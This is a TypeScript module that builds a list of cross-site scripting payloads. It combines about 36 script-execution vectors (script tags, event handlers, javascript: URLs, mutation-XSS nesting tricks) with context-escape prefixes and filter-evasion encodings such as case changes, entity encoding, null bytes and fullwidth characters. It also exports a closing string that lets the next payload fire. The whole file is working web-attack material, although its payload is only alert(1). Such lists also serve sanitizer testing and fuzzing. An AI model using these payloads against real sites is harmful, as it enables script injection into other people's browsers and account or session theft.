const run = "alert(1)";

/** Ways to run a script in a page, written down by us from what browsers do. */
const vectors = [
  `<script>${run}</script>`,
  `<script src="data:text/javascript,${run}"></script>`,
  `<script/x>${run}</script >`,
  `<img src=x onerror=${run}>`,
  `<img src="x" alt="" onload="${run}" onerror="${run}">`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${run}"><text y=9>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x"></use></svg>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>x</details>`,
  `<video><source onerror=${run}></video>`,
  `<video poster="javascript:${run}" onloadstart=${run} src=x></video>`,
  `<audio src=x onerror=${run}></audio>`,
  `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<a href="javascript:${run}">x</a>`,
  `<a href="data:text/html,<script>${run}</script>">x</a>`,
  `<form action="javascript:${run}"><button>x</button></form>`,
  `<button formaction="javascript:${run}">x</button>`,
  `<math href="javascript:${run}">x</math>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  `<base href="javascript:${run}//">`,
  `<link rel="import" href="data:text/html,<script>${run}</script>">`,
  `<style>@keyframes x{}b{animation:x 1s}</style><b onanimationstart=${run}>x</b>`,
  `<p style="animation:x" onmouseover=${run} onpointerenter=${run}>x</p>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
];

/** Ways out of where a text may stand. */
const exits = ["", `">`, `'>`, "</textarea>", "</title></style>", "</script>", "-->", "]]>", "}}</noscript>"];

/** Ways to spell it that a careless filter does not know. */
const spellings: ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => payload.replace(/<[a-z]+|on[a-z]+=|javascript/g, (word) => word.toUpperCase()),
  (payload) => payload.replace(/<([a-z]+) /g, "<$1/"),
  (payload) => payload.replaceAll("javascript:", "java\tscr\nipt:").replace(/ on/g, "\non"),
  (payload) => payload.replaceAll("javascript:", "&#106;avascript&colon;").replaceAll("alert", "&#97;lert"),
  (payload) => payload.replaceAll("<", "<\0"),
  (payload) => payload.replaceAll("<", "&lt;"),
  (payload) => encodeURIComponent(payload),
  (payload) => payload.replaceAll("<", "\uFF1C"),
  (payload) => payload.replace("<", "<<"),
];

/** Every vector in every spelling, with the ways out in turn. */
export function listPayloads(): string[] {
  const all = vectors.flatMap((vector, row) =>
    spellings.map((spell, column) => `${exits[(row + column) % exits.length]}${spell(vector)}`),
  );
  return [...new Set(all)];
}

/** Closes whatever a payload left open, so that the next one has its chance. */
export const closing = `--></style></textarea></title></script></noscript></select></template></table></svg></math>">'>`;
